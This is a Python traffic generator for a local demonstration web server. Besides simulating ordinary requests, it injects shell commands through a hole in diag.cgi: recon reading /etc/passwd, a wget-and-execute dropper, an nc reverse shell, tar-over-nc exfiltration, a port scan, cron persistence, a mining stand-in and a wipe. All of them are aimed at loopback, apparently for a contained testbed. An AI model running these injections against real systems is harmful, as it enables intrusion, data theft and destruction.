#!/usr/bin/env python3
"""Requests to the demonstration's server.

    traffic.py normal PORT COUNT SEED   varied requests; says how many failed, and how many a second
    traffic.py steady PORT SECONDS SEED the same for a time
    traffic.py attack PORT SITE KIND    one attack through the hole in diag.cgi

Only loopback is spoken to, and only the site's own directory is written to.
"""
import random
import socket
import socketserver
import sys
import threading
import time
from urllib.parse import quote

PAGES = ["/", "/index.html", "/style.css"] + [f"/docs/page{n}.html" for n in range(12)]


def request(port, method, path, body=None, timeout=10):
    """The whole answer."""
    head = f"{method} {path} HTTP/1.1\r\nHost: router\r\nConnection: close\r\n"
    if body is not None:
        head += f"Content-Length: {len(body)}\r\n"
    answer = b""
    with socket.create_connection(("127.0.0.1", port), timeout) as connection:
        connection.sendall((head + "\r\n").encode() + (body or b""))
        while part := connection.recv(65536):
            answer += part
    return answer


def normal(port, rng):
    """One request that a user makes; whether it was answered in full."""
    kind = rng.random()
    if kind < 0.4:
        answer = request(port, "GET", rng.choice(PAGES))
        return b" 200 OK" in answer
    if kind < 0.45:
        return b" 404 " in request(port, "GET", rng.choice(["/nope", "/favicon.ico", "/docs/x"]))
    if kind < 0.5:
        return b" 200 OK" in request(port, "HEAD", rng.choice(PAGES))
    if kind < 0.6:
        answer = request(port, "GET", "/cgi-bin/status.cgi")
    elif kind < 0.67:
        answer = request(port, "GET", "/cgi-bin/net.cgi")
    elif kind < 0.72:
        answer = request(port, "GET", "/cgi-bin/time.cgi")
    elif kind < 0.78:
        answer = request(port, "GET", f"/cgi-bin/log.cgi?n={rng.choice([5, 20, 100, 500])}")
    elif kind < 0.83:
        answer = request(port, "GET", "/cgi-bin/config.cgi")
    elif kind < 0.87:
        body = f"opt{rng.randrange(40)}={rng.randrange(999)}\n".encode()
        answer = request(port, "POST", "/cgi-bin/config.cgi", body)
    elif kind < 0.93:
        name = rng.choice([b"user=admin&pass=password\n", b"user=root&pass=x\n"])
        answer = request(port, "POST", "/cgi-bin/login.cgi", name)
    else:
        host = rng.choice(["127.0.0.1", "localhost", "127.0.0.2"])
        answer = request(port, "GET", f"/cgi-bin/diag.cgi?host={host}")
    return b"<end>" in answer


def send(port, seed, goes_on):
    rng = random.Random(seed)
    count = failed = 0
    start = time.monotonic()
    while goes_on(count):
        try:
            failed += not normal(port, rng)
        except OSError:
            failed += 1
        count += 1
    seconds = time.monotonic() - start
    print(f"{count} requests, {failed} failed, {count / seconds:.1f} a second")
    return failed


class Sink(socketserver.BaseRequestHandler):
    """Takes what is stolen."""

    def handle(self):
        try:
            while self.request.recv(65536):
                pass
        except OSError:
            pass


class Shell(socketserver.BaseRequestHandler):
    """Whom the reverse shell belongs to."""

    def handle(self):
        self.request.settimeout(0.3)
        commands = ["id", "uname -a", "cat /etc/passwd", "ps", f"echo shell > {Shell.proof}"]
        try:
            for command in commands:
                self.request.sendall(command.encode() + b"\n")
                time.sleep(0.03)
                try:
                    self.request.recv(65536)
                except socket.timeout:
                    pass
            self.request.sendall(b"exit\n")
        except OSError:
            pass


class Web(socketserver.BaseRequestHandler):
    """Where the dropper gets its program."""

    def handle(self):
        self.request.recv(4096)
        body = f"#!{Web.site}/bin/sh\nPATH={Web.site}/bin\nuname -m; head -n 4 /proc/cpuinfo\n"
        body += f"for i in 1 2 3 4 5; do echo $i > {Web.site}/run/d$i; done\n"
        self.request.sendall(
            f"HTTP/1.0 200 OK\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())


def serve(handler):
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


def attack(port, site, kind):
    """Runs the commands of an attack; the last one leaves a proof that it came to its end."""
    run = f"{site}/run"
    proof = f"{run}/finished.{kind}"
    Shell.proof = proof
    Web.site = site
    ports = " ".join(str(random.randint(20000, 30000)) for _ in range(16))
    commands = {
        "id": "id;whoami",
        "recon": "uname -a;cat /etc/passwd;ps;ls -la /;netstat -tln;cat /proc/version;df;mount",
        "dropper": f"wget -q http://127.0.0.1:{serve(Web)}/p -O {run}/x;chmod +x {run}/x;{run}/x",
        "revshell": f"nc 127.0.0.1 {serve(Shell)} -e {site}/bin/sh",
        "exfil": f"tar c -C {site} etc 2>/dev/null | nc -w 1 127.0.0.1 {serve(Sink)}",
        "scan": f"for p in {ports}; do nc -w 1 127.0.0.1 $p </dev/null; done",
        "persist": f'mkdir -p {run}/.h;echo "* * * * * {run}/.h/a" > {run}/.h/cron;'
        f"cp {site}/bin/busybox {run}/.h/a;chmod 755 {run}/.h/a;"
        f"for i in 1 2 3 4;do date >> {run}/.h/l;sleep 0.02;done",
        "miner": "for i in 1 2 3 4 5;do dd if=/dev/urandom bs=4k count=40 2>/dev/null|sha256sum;"
        "done",
        "wipe": f"mkdir -p {run}/w;for i in 1 2 3 4 5 6 7 8;do echo $i>{run}/w/$i;done;"
        f"rm -rf {run}/w;sync",
    }
    tail = "" if kind == "revshell" else f";echo done > {proof}"
    try:
        request(port, "GET", "/cgi-bin/diag.cgi?host=" + quote("127.0.0.1;" + commands[kind] + tail))
    except OSError:
        pass


def main():
    mode, port = sys.argv[1], int(sys.argv[2])
    if mode == "normal":
        count = int(sys.argv[3])
        sys.exit(send(port, int(sys.argv[4]), lambda sent: sent < count) > 0)
    if mode == "steady":
        end = time.monotonic() + float(sys.argv[3])
        sys.exit(send(port, int(sys.argv[4]), lambda sent: time.monotonic() < end) > 0)
    attack(port, sys.argv[3], sys.argv[4])


main()
